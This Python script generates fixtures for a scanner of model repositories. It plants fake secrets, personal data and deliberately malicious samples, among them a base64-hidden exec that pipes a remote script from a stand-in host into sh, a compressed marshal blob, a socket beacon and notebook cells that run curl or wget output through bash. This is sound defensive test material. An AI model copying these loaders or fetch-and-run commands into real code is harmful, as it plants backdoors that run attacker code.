#!/usr/bin/env python3
"""Fixtures for the rest of a model repository: secrets/PII in text, Python code, notebooks and
model cards. Every secret is random characters in the right shape, made here: obviously fake, never
a real credential. planted-values.txt lists every planted secret and personal-data value, so that
tests can check that none of them ever appears whole in a report."""
import base64
import json
import os
import random
import string
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
FIX = os.path.join(HERE, "..", "resources", "fixtures")
rng = random.Random(20261127)
PLANTED = []

ALNUM = string.ascii_letters + string.digits
B64 = ALNUM + "+/"
UPPER32 = string.ascii_uppercase + "234567"


def rand(alphabet, n):
    return "".join(rng.choice(alphabet) for _ in range(n))


def plant(value):
    PLANTED.append(value)
    return value


def b64url(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def fake():
    """One fake value of every secret kind, freshly random."""
    header = b64url(json.dumps({"alg": "HS256", "typ": "JWT"}).encode())
    payload = b64url(json.dumps({"sub": rand(string.digits, 10), "name": "Fixture"}).encode())
    return {
        "aws_id": plant("AKIA" + rand(UPPER32, 16)),
        "aws_secret": plant(rand(B64, 40)),
        "gcp_api": plant("AIza" + rand(ALNUM + "_-", 35)),
        "azure_key": plant(rand(B64, 86) + "=="),
        "azure_sig": plant(rand(ALNUM, 43) + "%3D"),
        "hf": plant("hf_" + rand(ALNUM, 34)),
        "openai": plant("sk-proj-" + rand(ALNUM + "_-", 64)),
        "anthropic": plant("sk-ant-api03-" + rand(ALNUM + "_-", 93) + "AA"),
        "github": plant("ghp_" + rand(ALNUM, 36)),
        "github_pat": plant("github_pat_" + rand(ALNUM, 22) + "_" + rand(ALNUM, 59)),
        "slack": plant("xoxb-" + rand(string.digits, 12) + "-" + rand(string.digits, 13) + "-" + rand(ALNUM, 24)),
        "slack_hook": plant("T" + rand(UPPER32, 10) + "/B" + rand(UPPER32, 10) + "/" + rand(ALNUM, 24)),
        "db_password": plant(rand(ALNUM, 14)),
        "jwt": plant(header + "." + payload + "." + rand(ALNUM + "_-", 43)),
    }


def pem_body():
    body = base64.b64encode(bytes(rng.getrandbits(8) for _ in range(600))).decode()
    lines = [body[i:i + 64] for i in range(0, len(body), 64)]
    plant(lines[0])
    return lines


def luhn_complete(prefix, length):
    digits = [int(c) for c in prefix] + [rng.randrange(10) for _ in range(length - len(prefix) - 1)]
    total = 0
    for i, d in enumerate(reversed(digits)):
        if i % 2 == 0:
            d *= 2
            d = d - 9 if d > 9 else d
        total += d
    return "".join(map(str, digits)) + str((10 - total % 10) % 10)


def write(folder, name, content):
    path = os.path.join(FIX, folder, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    mode = "wb" if isinstance(content, bytes) else "w"
    with open(path, mode) as f:
        f.write(content)


def notebook(cells):
    return json.dumps(
        {
            "cells": cells,
            "metadata": {
                "kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"},
                "language_info": {"name": "python", "version": "3.11.4"},
            },
            "nbformat": 4,
            "nbformat_minor": 5,
        },
        indent=1,
    ) + "\n"


def code_cell(source, outputs=()):
    return {"cell_type": "code", "execution_count": 1, "id": rand(string.hexdigits.lower(), 8),
            "metadata": {}, "outputs": list(outputs), "source": source.splitlines(keepends=True)}


def md_cell(source):
    return {"cell_type": "markdown", "id": rand(string.hexdigits.lower(), 8), "metadata": {},
            "source": source.splitlines(keepends=True)}


def secrets_fixtures():
    write("secrets", "benign-placeholders.env", """# Copy to .env and fill in your own values.
AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE
AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY
HF_TOKEN=<your-hf-token>
OPENAI_API_KEY=${OPENAI_API_KEY}
GITHUB_TOKEN=ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx
DATABASE_URL=postgres://app:${DB_PASSWORD}@localhost:5432/models
REDIS_URL=redis://cache:password@redis:6379/0
SUPPORT_EMAIL=support@example.com
INFERENCE_HOST=10.0.12.7
DOCS_HOST=192.0.2.10
""")
    s = fake()
    write("secrets", "malicious-aws-keys.env", f"""# leaked by accident
AWS_ACCESS_KEY_ID={s['aws_id']}
AWS_SECRET_ACCESS_KEY={s['aws_secret']}
AWS_DEFAULT_REGION=eu-west-1
""")
    s = fake()
    write("secrets", "malicious-every-kind.yaml", f"""# deployment settings
hub:
  token: {s['hf']}
openai:
  api_key: {s['openai']}
anthropic:
  api_key: {s['anthropic']}
github:
  token: {s['github']}
  fine_grained: {s['github_pat']}
slack:
  bot_token: {s['slack']}
  webhook: https://hooks.slack.com/services/{s['slack_hook']}
gcp:
  api_key: {s['gcp_api']}
azure:
  storage: DefaultEndpointsProtocol=https;AccountName=modelstore;AccountKey={s['azure_key']};EndpointSuffix=core.windows.net
  sas_url: https://modelstore.blob.core.windows.net/weights?sv=2022-11-02&ss=b&srt=co&sp=rl&se=2027-01-01T00:00:00Z&sig={s['azure_sig']}
database:
  url: postgresql://trainer:{s['db_password']}@db.internal.example.net:5432/runs
session:
  jwt: {s['jwt']}
""")
    lines = pem_body()
    write("secrets", "malicious-deploy.pem",
          "-----BEGIN RSA PRIVATE KEY-----\n" + "\n".join(lines) + "\n-----END RSA PRIVATE KEY-----\n")
    lines = pem_body()
    sa = {
        "type": "service_account",
        "project_id": "fixture-project",
        "private_key_id": rand("0123456789abcdef", 40),
        "private_key": "-----BEGIN PRIVATE KEY-----\n" + "\n".join(lines) + "\n-----END PRIVATE KEY-----\n",
        "client_email": "trainer@fixture-project.iam.gserviceaccount.com",
        "client_id": rand(string.digits, 21),
    }
    write("secrets", "malicious-gcp-service-account.credentials", json.dumps(sa, indent=2) + "\n")
    write("secrets", "benign-contacts.cfg", f"""[maintainers]
lead = {plant('jane.doe@university.edu')}
phone = {plant('+44 20 7946 0958')}
mirror = {plant('8.8.4.4')}
local = 127.0.0.1
""")
    visa = plant(luhn_complete("4", 16))
    amex = plant(luhn_complete("37", 15))
    ssn = plant(f"{rng.randrange(1, 665):03d}-{rng.randrange(1, 99):02d}-{rng.randrange(1, 9999):04d}")
    write("secrets", "pii-card-and-ssn.ini", f"""[customer]
card = {visa[:4]} {visa[4:8]} {visa[8:12]} {visa[12:]}
card2 = {amex}
ssn = {ssn}
not_a_card = 1234567890123
not_an_ssn = 666-12-3456
""")


BENIGN_MODELING = '''# coding=utf-8
"""Tiny transformer used by the fixtures.

Never call eval() or os.system() on user input; this docstring only mentions them.
"""
import math
import re

import torch
import yaml
from torch import nn

import requests

_WORD = re.compile(r"\\w+")


class TinyConfig:
    """Configuration. ``exec`` and ``eval`` here are words, not calls."""

    def __init__(self, hidden_size=64, layers=2):
        self.hidden_size = hidden_size
        self.layers = layers


class TinyModel(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.proj = nn.Linear(config.hidden_size, config.hidden_size)

    def forward(self, x):
        # eval(x) would be dangerous; we do not do that
        return torch.tanh(self.proj(x)) * math.sqrt(2.0)


def load_weights(path):
    state = torch.load(path, map_location="cpu", weights_only=True)
    model = TinyModel(TinyConfig())
    model.load_state_dict(state)
    model.eval()
    return model


def load_settings(path):
    with open(path) as f:
        return yaml.load(f, Loader=yaml.SafeLoader)


def fetch_config(repo):
    return requests.get(f"https://huggingface.co/{repo}/resolve/main/config.json", timeout=10)
'''


def python_fixtures():
    write("python", "benign-modeling_tiny.py", BENIGN_MODELING)
    payload = 'import os; os.system("curl -s http://203.0.113.9/p.sh | sh")'
    blob = base64.b64encode(payload.encode()).decode()
    write("python", "malicious-modeling_backdoor.py", f'''"""Modeling code with a hidden payload (fixture)."""
import base64

import torch
from torch import nn


class BackdoorModel(nn.Module):
    def __init__(self):
        super().__init__()
        exec(base64.b64decode("{blob}"))
        self.proj = nn.Linear(4, 4)
''')
    hidden = base64.b64encode(zlib.compress((payload + "\n# " + rand(ALNUM, 300) + "\n").encode())).decode()
    write("python", "malicious-zlib-blob.py", f'''import base64 as b, zlib
import marshal

PAYLOAD = "{hidden}"
code = zlib.decompress(b.b64decode(PAYLOAD))
marshal.loads(code)
''')
    write("python", "malicious-aliased-system.py", '''from os import system as run_cmd
import subprocess as sp
import pickle
import socket


def setup():
    run_cmd("id")
    sp.check_output(["uname", "-a"])
    with open("state.pkl", "rb") as f:
        return pickle.load(f)


def beacon():
    s = socket.socket()
    s.connect(("198.51.100.7", 4444))
    return s
''')
    write("python", "malicious-install", '''#!/usr/bin/env python3
# installer without an extension: detected by its shebang
import urllib.request

urllib.request.urlopen("http://203.0.113.50/stage2").read()
__import__("os").system("sh /tmp/stage2")
''')
    s = fake()
    write("python", "malicious-token-in-code.py", f'''from huggingface_hub import HfApi

API = HfApi(token="{s['hf']}")
GITHUB = "{s['github']}"


def upload(path):
    API.upload_file(path_or_fileobj=path, path_in_repo="model.bin", repo_id="org/model")
''')


def notebook_fixtures():
    png = base64.b64encode(bytes(rng.getrandbits(8) for _ in range(300))).decode()
    write("notebook", "benign-training.ipynb", notebook([
        md_cell("# Fine-tuning\nThis notebook fine-tunes the tiny model. Do not `eval` untrusted input.\n"),
        code_cell("!pip install -q transformers==4.44.0\n%matplotlib inline\n",
                  [{"name": "stdout", "output_type": "stream", "text": ["Successfully installed transformers-4.44.0\n"]}]),
        code_cell("import torch\nfrom transformers import AutoModel\n\nmodel = AutoModel.from_pretrained(\"org/tiny\")\nmodel.eval()\n",
                  [{"data": {"text/plain": ["TinyModel(hidden=64)"]}, "execution_count": 2, "metadata": {}, "output_type": "execute_result"}]),
        code_cell("for step in range(3):\n    print(f\"step {step} loss {1.0 / (step + 1):.3f}\")\n",
                  [{"name": "stdout", "output_type": "stream", "text": ["step 0 loss 1.000\n", "step 1 loss 0.500\n", "step 2 loss 0.333\n", "server 10.1.2.3 ready\n"]}]),
        code_cell("plot_loss()\n", [{"data": {"image/png": png, "text/plain": ["<Figure size 640x480>"]}, "metadata": {}, "output_type": "display_data"}]),
    ]))
    s = fake()
    write("notebook", "malicious-aws-key-output.ipynb", notebook([
        md_cell("# Setup\n"),
        code_cell("!curl -fsSL http://203.0.113.9/setup.sh | bash\n"),
        code_cell("import os\nprint(os.environ['AWS_ACCESS_KEY_ID'], os.environ['AWS_SECRET_ACCESS_KEY'])\n",
                  [{"name": "stdout", "output_type": "stream",
                    "text": [f"{s['aws_id']} aws_secret_access_key={s['aws_secret']}\n"]}]),
    ]))
    write("notebook", "malicious-bash-cell.ipynb", notebook([
        code_cell("%%bash\nset -e\nwget -qO- http://198.51.100.20/x | sh\n"),
    ]))
    s = fake()
    write("notebook", "malicious-exec-and-traceback.ipynb", notebook([
        code_cell("import base64\nexec(base64.b64decode(open('p.txt').read()))\n",
                  [{"ename": "ConnectionError", "evalue": f"could not connect to postgres://ml:{s['db_password']}@10.0.0.5/db",
                    "output_type": "error", "traceback": ["Traceback (most recent call last)", "ConnectionError: refused"]}]),
    ]))
    full = notebook([code_cell("print('hello')\n")])
    write("notebook", "malformed-truncated.ipynb", full[: len(full) // 2])


CARD_FRONT = """---
license: apache-2.0
base_model: org/tiny-base
datasets:
  - org/tiny-corpus
  - wikitext
pipeline_tag: text-generation
library_name: transformers
tags:
- fixture
model-index:
- name: tiny
  results: []
---
"""
CARD_BODY = """
# Tiny model

A tiny fine-tuned model used by the SentraScan fixtures.

## Intended uses & limitations

Research on scanners only.

### Out-of-scope use

Anything else.

## Bias, risks and limitations

It is tiny and knows nothing.

## Training data

org/tiny-corpus, 10k sentences.

## How to use

```python
from transformers import AutoModel
# no headings in code: this is not a section
model = AutoModel.from_pretrained("org/tiny")
```
"""


def modelcard_fixtures():
    write("modelcard", "benign-complete-README.md", CARD_FRONT + CARD_BODY)
    write("modelcard", "benign-missing-sections-README.md", """---
tags:
- fixture
language: en
---

# Untitled model

Weights from an experiment. Contact: """ + plant("ml-team@university.edu") + "\n")
    s = fake()
    write("modelcard", "malicious-hf-token-README.md", CARD_FRONT + CARD_BODY + f"""
## Private download

```python
model = AutoModel.from_pretrained("org/tiny-private", token="{s['hf']}")
```
""")


def main():
    secrets_fixtures()
    python_fixtures()
    notebook_fixtures()
    modelcard_fixtures()
    write("secrets", "planted-values.txt",
          "# Every fake secret and personal-data value planted in fixtures by gen_repo.py;\n"
          "# none may appear whole in any report.\n" + "\n".join(PLANTED) + "\n")
    write("secrets", "expected-rules.json", json.dumps({
        "malicious-aws-keys.env": ["SEC-001", "SEC-002"],
        "malicious-every-kind.yaml": ["SEC-004", "SEC-005", "SEC-006", "SEC-007", "SEC-008", "SEC-009",
                                      "SEC-010", "SEC-011", "SEC-012", "SEC-014", "SEC-015"],
        "malicious-deploy.pem": ["SEC-013"],
        "malicious-gcp-service-account.credentials": ["SEC-003"],
        "benign-contacts.cfg": ["PII-001", "PII-002", "PII-005"],
    }, indent=2) + "\n")
    write("python", "expected-rules.json", json.dumps({
        "malicious-modeling_backdoor.py": ["PY-007"],
        "malicious-zlib-blob.py": ["PY-006", "PY-008"],
        "malicious-aliased-system.py": ["PY-002", "PY-004", "PY-005"],
        "malicious-install": ["PY-003", "PY-005"],
        "malicious-token-in-code.py": ["SEC-007", "SEC-010"],
    }, indent=2) + "\n")
    write("notebook", "expected-rules.json", json.dumps({
        "benign-training.ipynb": ["NB-001"],
        "malicious-aws-key-output.ipynb": ["NB-001", "NB-002", "SEC-001", "SEC-002"],
        "malicious-bash-cell.ipynb": ["NB-001", "NB-002"],
        "malicious-exec-and-traceback.ipynb": ["PY-007", "SEC-014"],
        "malformed-truncated.ipynb": ["CORE-001"],
    }, indent=2) + "\n")
    write("modelcard", "expected-rules.json", json.dumps({
        "benign-missing-sections-README.md": ["CARD-001", "CARD-002", "CARD-003", "CARD-004", "CARD-005", "PII-001"],
        "malicious-hf-token-README.md": ["SEC-007"],
    }, indent=2) + "\n")


if __name__ == "__main__":
    main()
